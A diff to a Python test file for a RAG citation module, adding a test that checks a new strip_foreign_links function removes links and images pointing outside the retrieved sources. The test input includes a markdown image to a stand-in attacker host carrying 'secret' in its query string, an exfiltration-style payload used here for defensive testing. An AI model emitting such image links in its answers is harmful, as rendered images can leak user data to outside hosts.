@@ -1,5 +1,5 @@
 from ingest.types import Chunk
-from rag.citations import UNSUPPORTED, best_span, split_answer, verify
+from rag.citations import UNSUPPORTED, best_span, split_answer, strip_foreign_links, verify
 from rag.types import Hit
 
 PASSAGES = [
@@ -54,3 +54,11 @@ def test_best_span_prefers_one_sentence_and_can_join_two():
 def test_repeated_sentences_are_dropped():
     text, _, _ = verify("The warranty lasts 4 years [2]. The warranty lasts 4 years [2]. The warranty lasts 4 years.", HITS)
     assert text == "The warranty lasts 4 years [2]."
+
+
+def test_links_and_images_not_in_the_sources_are_removed():
+    hits = HITS + [Hit(Chunk("c9", "d", "links.md", 1, 0, 10, "Docs live at https://example.org/docs for everyone."), 1.0)]
+    answer = "See ![x](https://evil.test/?q=secret) the [manual](https://evil.test/m) or https://evil.test/a and [docs](https://example.org/docs)."
+    out = strip_foreign_links(answer, hits)
+    assert "evil.test" not in out and "![" not in out
+    assert "the manual or" in out and "docs (https://example.org/docs)" in out
